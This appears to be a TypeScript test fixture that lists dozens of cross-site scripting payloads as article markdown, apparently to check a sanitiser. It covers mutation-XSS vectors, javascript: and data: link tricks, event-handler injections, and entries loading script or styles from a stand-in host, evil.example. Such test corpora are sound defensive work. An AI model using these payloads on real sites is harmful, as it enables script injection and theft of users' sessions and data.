/** A payload that runs sets this. A browser test looks at `window.xss` afterwards. */
const RUN = 'window.xss=1';

/** The usual families of script injection, written as an article's markdown. */
export const xssPayloads: readonly { family: string; markdown: string }[] = [
  { family: 'script element', markdown: `<script>${RUN}</script>` },
  { family: 'script element inside a paragraph', markdown: `Text <script>${RUN}</script> text` },
  {
    family: 'script element in mixed case with an attribute',
    markdown: `<ScRiPt type="text/javascript">${RUN}</sCrIpT>`,
  },
  { family: 'script element broken in two', markdown: `<scr<script></script>ipt>${RUN}</script>` },
  { family: 'script from another site', markdown: '<script src="https://evil.example/x.js"></script>' },
  { family: 'image that fails', markdown: `<img src="x:x" onerror="${RUN}">` },
  { family: 'image without quotes', markdown: `<img src=x:x onerror=${RUN}>` },
  { family: 'image with slashes for spaces', markdown: `<img/src="x:x"/onerror="${RUN}">` },
  { family: 'drawing that loads', markdown: `<svg onload="${RUN}"></svg>` },
  { family: 'script inside a drawing', markdown: `<svg><script>${RUN}</script></svg>` },
  {
    family: 'drawing that animates a link',
    markdown: `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text x=20 y=20>click</text></a></svg>`,
  },
  {
    family: 'drawing with a foreign object',
    markdown: `<svg><foreignObject><img src="x:x" onerror="${RUN}"></foreignObject></svg>`,
  },
  {
    family: 'mutation through mathml',
    markdown: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=${RUN}&gt;">`,
  },
  {
    family: 'mutation through noscript',
    markdown: `<noscript><p title="</noscript><img src=x:x onerror=${RUN}>"></noscript>`,
  },
  {
    family: 'mutation through a form',
    markdown: `<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=${RUN}>`,
  },
  { family: 'frame with a script address', markdown: `<iframe src="javascript:parent.${RUN}"></iframe>` },
  {
    family: 'frame with its own document',
    markdown: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  },
  {
    family: 'object with data',
    markdown: `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  },
  { family: 'embed', markdown: `<embed src="javascript:${RUN}">` },
  { family: 'video with a failing source', markdown: `<video><source onerror="${RUN}"></video>` },
  { family: 'audio that fails', markdown: `<audio src="x:x" onerror="${RUN}"></audio>` },
  {
    family: 'details that open',
    markdown: `<details open ontoggle="${RUN}"><summary>s</summary>t</details>`,
  },
  { family: 'input that takes the focus', markdown: `<input autofocus onfocus="${RUN}">` },
  { family: 'element that takes the focus', markdown: `<p tabindex=1 autofocus onfocus="${RUN}">text</p>` },
  { family: 'pointer handler', markdown: `<p onmouseover="${RUN}" onclick="${RUN}">text</p>` },
  {
    family: 'animation handler',
    markdown: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">text</p>`,
  },
  { family: 'body handler', markdown: `<body onload="${RUN}">` },
  { family: 'marquee handler', markdown: `<marquee onstart="${RUN}">text</marquee>` },
  { family: 'markdown link with a script address', markdown: `[click](javascript:${RUN})` },
  { family: 'markdown link with an encoded address', markdown: `[click](&#106;avascript:${RUN})` },
  { family: 'markdown link with a tab inside', markdown: `[click](<java\tscript:${RUN}>)` },
  { family: 'markdown link in capitals', markdown: `[click](JaVaScRiPt:${RUN})` },
  {
    family: 'markdown link to data',
    markdown: `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cueHNzPTE8L3NjcmlwdD4=)`,
  },
  { family: 'markdown link to vbscript', markdown: '[click](vbscript:msgbox(1))' },
  { family: 'autolink with a script address', markdown: `<javascript:${RUN}>` },
  { family: 'reference link with a script address', markdown: `[click][1]\n\n[1]: javascript:${RUN}` },
  { family: 'markdown image with a handler in its text', markdown: `![" onerror="${RUN}](x:x)` },
  {
    family: 'markdown image with a handler in its title',
    markdown: `![i](x:x "&quot; onerror=&quot;${RUN}")`,
  },
  {
    family: 'markdown link with a handler in its title',
    markdown: `[click](/ "&quot; onmouseover=&quot;${RUN}")`,
  },
  { family: 'html link with a script address', markdown: `<a href="javascript:${RUN}">click</a>` },
  { family: 'html link with line breaks inside', markdown: `<a href="jav&#x0A;ascript:${RUN}">click</a>` },
  {
    family: 'html link with a control character before',
    markdown: `<a href="&#x01;javascript:${RUN}">click</a>`,
  },
  {
    family: 'form with a script action',
    markdown: `<form action="javascript:${RUN}"><button>send</button></form>`,
  },
  { family: 'button with a script action', markdown: `<button formaction="javascript:${RUN}">send</button>` },
  { family: 'meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">` },
  { family: 'base address', markdown: '<base href="https://evil.example/">' },
  {
    family: 'style sheet from another site',
    markdown: '<link rel="stylesheet" href="https://evil.example/x.css">',
  },
  {
    family: 'style attribute',
    markdown: '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">text</p>',
  },
  { family: 'template', markdown: `<template><img src="x:x" onerror="${RUN}"></template>` },
  { family: 'custom element', markdown: `<x-element onfocus="${RUN}" tabindex=1>text</x-element>` },
  { family: 'code fence that closes itself', markdown: `\`\`\`"><img src=x:x onerror=${RUN}>\ncode\n\`\`\`` },
  { family: 'heading with a handler', markdown: `## <img src=x:x onerror=${RUN}>` },
  { family: 'table cell with a handler', markdown: `| a |\n|---|\n| <img src=x:x onerror=${RUN}> |` },
  { family: 'comment that ends early', markdown: `<!--><img src=x:x onerror=${RUN}>-->` },
  { family: 'cdata', markdown: `<![CDATA[<img src=x:x onerror=${RUN}>]]>` },
];
